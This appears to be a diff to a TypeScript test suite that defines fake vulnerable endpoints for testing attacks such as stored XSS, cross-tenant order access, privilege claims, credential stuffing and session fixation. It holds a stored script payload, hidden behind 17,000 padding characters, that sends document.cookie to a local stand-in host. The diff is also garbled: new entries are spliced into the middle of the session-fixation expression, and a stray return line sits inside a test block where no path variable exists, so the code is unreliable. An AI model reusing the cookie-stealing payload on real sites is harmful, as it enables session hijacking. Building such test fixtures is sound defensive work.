@@ -52,6 +52,10 @@ const VULNERABLE: Record<string, { respond: Responder; evidence: string; hit?: {
     respond: stored({ note: `${"n".repeat(17_000)} <script>fetch("http://127.0.0.1:9/t0?"+document.cookie)</script>` }),
     evidence: "a script is stored behind 17000 characters",
   },
+  "changed-group-claim": {
+    respond: () => answer(200, { groups: ["admin"] }),
+    evidence: "the API takes alice for an administrator",
+  },
   "credential-stuffing": {
     respond: ({ body = "" }) =>
       body.includes("alice@") ? answer(204, "", { "set-cookie": "__Host-session=c1; Path=/" }) : REFUSED,
@@ -125,6 +129,14 @@ const VULNERABLE: Record<string, { respond: Responder; evidence: string; hit?: {
   "session-fixation": {
     respond: ({ path }) =>
       path === "/session"
+  "other-company-order-receipt": {
+    respond: () => answer(200, `<p>Note: ${globex.note}</p>`),
+    evidence: `alice of acme opens globex's receipt: "${globex.note}"`,
+  },
+  "other-company-order-status": {
+    respond: () => answer(200, { status: "shipped" }),
+    evidence: "globex's order is shipped, by alice of acme",
+  },
         ? answer(204, "")
         : answer(200, { id: "o-1", companyId: "globex", note: "alice's confidential order" }),
     evidence: "alice signed in, and her order is globex's: bob reads it",
@@ -317,6 +329,7 @@ describe.each(ATTACKS)("the twin of $id", (attack: Attack) => {
     });
   });
 
+  if (path.endsWith("/status")) return answer(200, { status: "shipped" });
   it("fails where the answer is empty", async () => {
     expect((await attack.twin(fakeContext(() => answer(200, {})))).ok).toBe(false);
   });
